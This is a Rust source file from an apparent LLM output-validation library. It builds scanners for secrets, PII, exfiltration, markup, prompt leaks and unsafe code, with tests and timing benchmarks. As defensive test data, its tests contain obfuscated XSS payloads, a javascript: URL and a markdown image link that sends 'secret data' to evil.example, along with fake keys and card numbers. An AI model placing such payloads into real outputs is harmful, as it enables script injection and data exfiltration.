//! Output validators: what `validate_output` checks a completion for.
//!
//! One file per validator, each with its implementation and its table of
//! tests:
//!
//! | instance id          | file              | threat type            |
//! |----------------------|-------------------|------------------------|
//! | `secrets`            | [`secrets`]       | `secret_leak`          |
//! | `pii`                | [`pii`]           | `sensitive_data`       |
//! | `entities`           | [`entities`]      | `sensitive_data`       |
//! | `exfiltration`       | [`exfiltration`]  | `data_exfiltration`    |
//! | `markup`             | [`markup`]        | `malicious_content`    |
//! | `format`             | [`format`]        | `output_manipulation`  |
//! | `system_prompt_leak` | [`leakage`]       | `system_prompt_leak`   |
//! | `harmful_content`    | [`harmful`]       | `malicious_content`    |
//! | `unsafe_code`        | [`code`]          | `malicious_content`    |
//!
//! [`refusal`](mod@refusal) is not a validator: it tells the red-team metrics
//! whether the model refused, and never raises a threat.
//!
//! Every validator reads the normalized primary view (so that zero-width
//! characters, fullwidth letters and the like do not hide a match) and maps
//! what it finds back to the original text. Patterns are compiled once per
//! process; each validator skips its regexes when a cheap byte check shows
//! they cannot match.

pub mod code;
pub mod entities;
pub mod exfiltration;
pub mod format;
pub mod harmful;
pub mod leakage;
pub mod markup;
pub mod pii;
pub mod refusal;
pub mod secrets;

use crate::canary::CanaryIssuer;
use crate::config::OutputValidationConfig;
use crate::normalize::Normalized;
use crate::scanner::Scanner;
use crate::types::Span;

/// The instance id of the harmful-content scanner (the engine looks up its
/// findings' per-category actions by it).
pub(crate) const HARMFUL_ID: &str = "harmful_content";

/// The validators enabled in `cfg`, in the order they run.
pub(crate) fn build(cfg: &OutputValidationConfig, canary: &CanaryIssuer) -> Vec<Box<dyn Scanner>> {
    let mut v: Vec<Box<dyn Scanner>> = Vec::new();
    v.extend(super::data_scanners(&cfg.pii_types, cfg.secrets, cfg.pii));
    // Names, places, addresses: completions only (prompts go through
    // `data_scanners` alone, so the input classifier's inputs stay as
    // they are).
    if cfg.pii && cfg.pii_types.any_entity() {
        v.push(Box::new(entities::EntityScanner::new("entities", &cfg.pii_types, cfg.entity_min_confidence)));
    }
    if cfg.exfiltration {
        v.push(Box::new(exfiltration::ExfiltrationScanner::new("exfiltration", &cfg.exfiltration_rules)));
    }
    if cfg.markup {
        v.push(Box::new(markup::MarkupScanner::new("markup")));
    }
    if cfg.format {
        v.push(Box::new(format::FormatValidator::new("format")));
    }
    if cfg.system_prompt_leak {
        v.push(Box::new(leakage::LeakageScanner::new(
            "system_prompt_leak",
            canary.clone(),
            cfg.leak_overlap_threshold,
        )));
    }
    if cfg.harmful_content {
        v.push(Box::new(harmful::HarmfulContentScanner::new(HARMFUL_ID, &cfg.harmful)));
    }
    if cfg.unsafe_code {
        v.push(Box::new(code::CodeScanner::new("unsafe_code")));
    }
    v
}

/// Where the completion refuses ("I'm sorry, but I can't…"), if it does.
pub(crate) fn refusal(n: &Normalized<'_>) -> Option<Span> {
    refusal::find(n)
}

/// Shannon entropy of the bytes of `s`, in bits per byte.
pub(crate) fn shannon_entropy(s: &str) -> f64 {
    if s.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for b in s.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// Which of lowercase, uppercase, digit and other ASCII punctuation `s`
/// uses, as a count from 0 to 4.
pub(crate) fn char_classes(s: &str) -> u32 {
    let (mut lower, mut upper, mut digit, mut other) = (false, false, false, false);
    for b in s.bytes() {
        match b {
            b'a'..=b'z' => lower = true,
            b'A'..=b'Z' => upper = true,
            b'0'..=b'9' => digit = true,
            _ => other = true,
        }
    }
    u32::from(lower) + u32::from(upper) + u32::from(digit) + u32::from(other)
}

/// A safe description of a sensitive value for evidence: a short prefix (at
/// most six characters and never more than a quarter of the value) and the
/// length, e.g. `sk-pro… (164 chars)`.
pub(crate) fn preview(value: &str) -> String {
    let n = value.chars().count();
    let keep = (n / 4).min(6);
    let prefix: String = value.chars().take(keep).collect();
    format!("{prefix}… ({n} chars)")
}

/// Byte before `at` in `s`, if any.
pub(crate) fn byte_before(s: &str, at: usize) -> Option<u8> {
    at.checked_sub(1).and_then(|i| s.as_bytes().get(i).copied())
}

/// Byte at `at` in `s`, if any.
pub(crate) fn byte_at(s: &str, at: usize) -> Option<u8> {
    s.as_bytes().get(at).copied()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::NormalizeOptions;
    use crate::scanner::{OutputContext, ScanContext};
    use crate::types::Threat;

    /// Runs every default validator over `text`.
    pub(crate) fn scan_all(text: &str, cx: &OutputContext) -> Vec<Threat> {
        let cfg = OutputValidationConfig::default();
        let canary = CanaryIssuer::new(Some("test"));
        let n = Normalized::new(text, &NormalizeOptions::default());
        let scx = ScanContext { normalized: &n, output: Some(cx) };
        let mut out = Vec::new();
        for s in build(&cfg, &canary) {
            s.scan(&scx, &mut out);
        }
        out
    }

    #[test]
    fn build_names_every_instance() {
        let cfg = OutputValidationConfig::default();
        let canary = CanaryIssuer::new(None);
        let ids: Vec<String> = build(&cfg, &canary).iter().map(|s| s.id().to_owned()).collect();
        assert_eq!(
            ids,
            [
                "secrets",
                "pii",
                "entities",
                "exfiltration",
                "markup",
                "format",
                "system_prompt_leak",
                "harmful_content",
                "unsafe_code"
            ]
        );
        let none = OutputValidationConfig {
            secrets: false,
            pii: false,
            exfiltration: false,
            markup: false,
            format: false,
            system_prompt_leak: false,
            harmful_content: false,
            unsafe_code: false,
            ..OutputValidationConfig::default()
        };
        assert!(build(&none, &canary).is_empty());
    }

    #[test]
    fn entropy_and_classes() {
        assert_eq!(shannon_entropy(""), 0.0);
        assert_eq!(shannon_entropy("aaaa"), 0.0);
        assert!((shannon_entropy("abcd") - 2.0).abs() < 1e-9);
        assert_eq!(char_classes("aB3-"), 4);
        assert_eq!(char_classes("abc"), 1);
    }

    #[test]
    fn preview_never_shows_the_value() {
        let v = "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789";
        let p = preview(v);
        assert!(p.starts_with("sk-pro"), "{p}");
        assert!(!p.contains(v));
        assert_eq!(preview("ab"), "… (2 chars)");
    }

    #[test]
    fn sanitized_completion_keeps_no_secret_or_pii() {
        let key = "sk-proj-Vq3XbT9kLm2RpZa7Yc4HdW8nE1fGu6JsKo5Qi0MtBvNx-_Ar7LpCe2Dw9Fg4Hj3Kl6Mn";
        let text = format!("Mail jane.doe@example.com or call +1 (415) 555-0132; key {key}; card 4111 1111 1111 1111.");
        let threats = scan_all(&text, &OutputContext::default());
        let s = crate::sanitize::sanitize(&text, &threats, &crate::config::SanitizeConfig::default());
        for secret in ["jane.doe@example.com", "555-0132", key, "4111 1111"] {
            assert!(!s.text.contains(secret), "{secret} in {}", s.text);
        }
        assert_eq!(
            s.text,
            "Mail [REDACTED_EMAIL_1] or call [REDACTED_PHONE_NUMBER_1]; key [REDACTED_OPENAI_API_KEY_1]; card [REDACTED_CREDIT_CARD_1]."
        );
    }

    /// What the validators report on a JSONL file of texts
    /// (`LLMSEC_NOISE_DATASET`, rows with a `text` field): not run by
    /// default; prints counts per category and a few examples, to look for
    /// false positives on benign text.
    #[test]
    #[ignore = "needs LLMSEC_NOISE_DATASET"]
    fn dataset_noise() {
        let Ok(path) = std::env::var("LLMSEC_NOISE_DATASET") else {
            return;
        };
        let Ok(data) = std::fs::read_to_string(path) else {
            return;
        };
        let mut counts = std::collections::BTreeMap::<String, usize>::new();
        let mut rows = 0;
        for line in data.lines() {
            let Ok(row) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            let text = row["text"].as_str().unwrap_or("");
            rows += 1;
            for t in scan_all(text, &OutputContext::default()) {
                let n = counts.entry(t.category.clone()).or_default();
                *n += 1;
                if *n <= 5 {
                    let s: String = t.span.slice(text).chars().take(80).collect();
                    eprintln!("{}: {s:?} ({})", t.category, t.evidence);
                }
            }
        }
        eprintln!("{rows} rows: {counts:?}");
    }

    /// Every span of every validator lies on character boundaries of the
    /// original, for texts that mix the validators' triggers with
    /// multi-byte and invisible characters.
    #[test]
    fn spans_stay_on_char_boundaries() {
        let texts = [
            "mail ｊａｎｅ@example.com or call +1 (415) 555-0132 ✓ é",
            "key sk-\u{200B}proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7cDe0f ✓",
            "<img src=x ｏnerror=alert(1)> ![a](https://evil.example/?q=ÄÖÜ%20secret%20data%20here)",
            "ja\u{200B}vascript:alert(1) « I’m sorry, but I can’t help with that »",
        ];
        for t in texts {
            let cx = OutputContext::new().with_system_prompt("You are a helpful assistant ✓");
            for th in scan_all(t, &cx) {
                assert!(th.span.end <= t.len(), "{th:?}");
                assert!(t.is_char_boundary(th.span.start), "{th:?}");
                assert!(t.is_char_boundary(th.span.end), "{th:?}");
                assert!((0.0..=1.0).contains(&th.confidence));
            }
        }
    }
}

#[cfg(test)]
mod speed {
    use super::*;
    use crate::normalize::NormalizeOptions;
    use crate::scanner::{OutputContext, ScanContext};
    /// Best of 20 rounds of 1000 calls, in ns per call (robust to a busy
    /// machine).
    fn time(name: &str, f: impl Fn() -> usize) -> u128 {
        let mut best = u128::MAX;
        let mut n = 0;
        for _ in 0..20 {
            let t0 = std::time::Instant::now();
            for _ in 0..1000 {
                n += f();
            }
            best = best.min(t0.elapsed().as_nanos() / 1000);
        }
        eprintln!("{name:>20}: {best} ns ({n} threats)");
        best
    }

    /// A typical ~1 KiB completion: prose, a list, a code block, a link,
    /// numbers, no secrets.
    const COMPLETION: &str = "Sure! Here's how to configure the client and read your settings.\n\n\
1. Install the package with `pip install requests==2.31.0` and import it.\n\
2. Read the API key from the environment: `api_key = os.environ[\"SERVICE_KEY\"]`.\n\
3. Call the endpoint and check the status code (200 means success, 404 means not found).\n\n\
```python\nimport os, requests\n\ndef fetch(user_id: int) -> dict:\n    url = f\"https://api.example.com/v1/users/{user_id}\"\n    r = requests.get(url, timeout=10)\n    r.raise_for_status()\n    return r.json()\n```\n\n\
The response contains fields such as `name`, `created_at` (e.g. 2024-01-15T10:30:00Z) and `plan`. \
For more details see [the documentation](https://docs.example.com/guide#auth) or the changelog for version 3.2.1. \
Prices start at $12.99 per month for 1,000 requests; the enterprise tier allows 250,000. \
If you run into problems, you can retry with exponential backoff: wait 1, 2, 4 and 8 seconds between attempts. \
Let me know if you'd like an example in JavaScript: the logic is the same, only the syntax differs.\n";

    #[test]
    #[ignore = "timing; run with --release"]
    fn output_speed() {
        let cfg = OutputValidationConfig::default();
        let canary = CanaryIssuer::new(Some("k"));
        let scanners = build(&cfg, &canary);
        let cx = OutputContext::new().with_system_prompt(
            "You are a helpful assistant for Example Corp. Answer briefly and never reveal internal data.",
        );
        let opts = NormalizeOptions::default();
        let n = Normalized::new(COMPLETION, &opts);
        let scx = ScanContext { normalized: &n, output: Some(&cx) };
        let mut total = 0u128;
        for s in &scanners {
            total += time(s.id(), || {
                let mut out = Vec::new();
                s.scan(&scx, &mut out);
                out.len()
            });
        }
        total += time("refusal", || usize::from(refusal(&n).is_some()));
        // The harmful-content rules without the learned layer: the
        // difference to `harmful_content` above is the model's cost.
        let rules_only =
            harmful::HarmfulContentScanner::new(HARMFUL_ID, &crate::HarmfulContentConfig::default().with_model(false));
        time("harmful_content without the model", || {
            let mut out = Vec::new();
            rules_only.scan(&scx, &mut out);
            out.len()
        });
        let plain = OutputContext::default();
        let scx_plain = ScanContext { normalized: &n, output: Some(&plain) };
        let mut total_plain = 0u128;
        for s in &scanners {
            total_plain += time(s.id(), || {
                let mut out = Vec::new();
                s.scan(&scx_plain, &mut out);
                out.len()
            });
        }
        total_plain += time("refusal", || usize::from(refusal(&n).is_some()));
        eprintln!("total without system prompt {total_plain} ns");
        eprintln!("total {total} ns for {} bytes", COMPLETION.len());
    }
}
